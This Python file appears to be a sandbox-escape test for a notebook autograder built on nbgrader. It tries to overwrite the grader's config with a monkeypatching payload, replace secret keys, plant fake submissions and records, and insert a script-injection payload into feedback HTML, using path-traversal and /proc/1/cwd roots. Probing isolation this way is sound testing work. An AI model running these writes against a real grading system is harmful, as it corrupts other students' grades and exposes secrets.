"""
family = "writing what is the class's"
tries = "Rewrites configuration, source, release, keys and the submissions of others: the next run grades what it wants."
points = 3
"""

# %% own
import pathlib

EVIL = "c = get_config()\nimport builtins\nbuiltins.shift_targets = lambda y: None\nc.Execute.allow_errors = True\n"
for name, text in {
    "nbgrader_config.py": EVIL,
    "class.toml": 'name = "mine"\n',
    "keys/secret": "0" * 64,
    "records/planted.json": "{}",
    "submitted/z-last/00_attacked/00_attacked.ipynb": "{}",
    "release/00_attacked/00_attacked.ipynb": "{}",
    "source/00_attacked/00_attacked.ipynb": "{}",
    "feedback/a-first/00_attacked/00_attacked.html": "<script>alert(1)</script>",
}.items():
    for root in ("@CLASS@", "/proc/1/cwd", "../../..", "../.."):
        path = pathlib.Path(root, name)
        try:
            path.write_text(text)
            if path.resolve().parent != pathlib.Path.cwd():
                print("\N{SKULL AND CROSSBONES}", path)
        except OSError:
            pass
